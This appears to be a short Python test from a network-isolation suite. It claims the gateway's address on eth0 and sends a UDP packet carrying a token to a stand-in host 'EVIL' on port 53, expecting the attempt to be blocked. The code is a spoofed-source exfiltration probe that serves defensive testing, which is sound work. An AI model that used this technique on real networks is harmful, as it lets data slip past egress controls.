"""
how: the gateway's address for itself
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import EVERYBODY, by, changed, ipv4, udp_part
from land import EVIL, GATEWAY


def attempt(token):
    return changed(
        ["address", "add", GATEWAY + "/32", "dev", "eth0"],
        lambda: by(EVERYBODY, ipv4(EVIL, 17, udp_part(EVIL, 53, token, source=GATEWAY), source=GATEWAY)),
    )
